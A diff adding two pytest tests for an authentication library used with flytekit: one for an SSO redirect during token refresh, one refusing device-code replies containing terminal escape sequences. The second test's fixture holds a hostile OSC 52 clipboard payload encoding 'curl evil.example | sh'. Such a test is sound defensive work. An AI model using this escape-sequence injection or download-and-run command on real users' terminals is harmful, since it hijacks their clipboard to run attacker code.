@@ -313,6 +313,78 @@ def test_html_502_keeps_the_refresh_token_and_starts_no_login(
     grant.give_back(renewed.refresh_token)
 
 
+def test_a_redirect_to_a_login_page_keeps_the_refresh_token_and_starts_no_login(
+    idp: LocalIdP,
+    grant: Grant,
+    memory_keyring: MemoryKeyring,
+    device_logins: DeviceLogins,
+    fault_server: FaultServer,
+) -> None:
+    """An SSO gateway in front of the IdP answers the refresh with a 302 to its login page. flytekit on its own
+    followed it and failed on the HTML page (a ``requests`` exception): the credentials stayed. On tokensmith the
+    redirect is not followed (C27) and must not be an ``AuthenticationError`` either, which flytekit takes as
+    "refresh token rejected": it would delete the credentials and start a device login."""
+    device_logins.approve = False
+    access, kept = grant.take()
+    _stored_in_keyring(memory_keyring, access, kept)
+    before = memory_keyring.stored()
+    fault_server.script("/token", Reply(status=302, headers={"Location": fault_server.url("/sso/login")}))
+    authn = authenticator.DeviceCodeAuthenticator(
+        FLYTE_ENDPOINT,
+        _config(idp, token_endpoint=fault_server.url("/token"), device_endpoint=fault_server.url("/device")),
+    )
+
+    with pytest.raises(requests.RequestException) as info:
+        authn.refresh_credentials()
+    assert isinstance(info.value, tokensmith.UnexpectedRedirect) and info.value.status_code == 302
+    assert not isinstance(info.value, flytekit_exceptions.AuthenticationError)
+    assert fault_server.count("/token") == 1 and fault_server.count("/sso/login") == 0
+    assert device_logins.user_codes == [] and fault_server.count("/device") == 0
+    assert memory_keyring.stored() == before
+    assert authn.get_credentials().refresh_token == kept
+
+    authn._token_endpoint = idp.token_endpoint  # the gateway lets the request through again
+    authn.refresh_credentials()
+    renewed = authn.get_credentials()
+    assert renewed.refresh_token and renewed.refresh_token != kept
+    assert memory_keyring.stored()["refresh_token"] == renewed.refresh_token
+    assert device_logins.user_codes == []
+    grant.give_back(renewed.refresh_token)
+
+
+def test_a_device_prompt_with_terminal_escapes_never_reaches_flytekits_terminal(
+    idp: LocalIdP,
+    memory_keyring: MemoryKeyring,
+    bridged: None,
+    fault_server: FaultServer,
+    capfd: pytest.CaptureFixture[str],
+) -> None:
+    """flytekit prints ``verification_uri`` and ``user_code`` to the terminal as they came (click.secho). A hostile
+    or broken server's escape sequences (OSC 52 writes the clipboard, OSC 0 the window title) would drive the
+    person's terminal: such an answer is refused, nothing is printed, no poll is made."""
+    fault_server.script(
+        "/device",
+        Reply(
+            json={
+                "device_code": "dc-secret",
+                "user_code": "WDJB-MJHT\x1b]0;pwned\x07",
+                "verification_uri": "https://idp.example/device\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07",
+                "expires_in": 600,
+            }
+        ),
+    )
+    authn = authenticator.DeviceCodeAuthenticator(
+        FLYTE_ENDPOINT,
+        _config(idp, token_endpoint=fault_server.url("/token"), device_endpoint=fault_server.url("/device")),
+    )
+    with pytest.raises(tokensmith.InvalidResponse, match="control characters"):
+        authn.refresh_credentials()
+    out, err = capfd.readouterr()
+    assert "\x1b" not in out + err and "\x07" not in out + err
+    assert fault_server.count("/device") == 1 and fault_server.count("/token") == 0
+    assert memory_keyring.stored() == {} and authn.get_credentials() is None
+
+
 def test_invalid_grant_is_caught_by_flytekit_and_falls_back_to_a_device_login(
     idp: LocalIdP,
     grant: Grant,
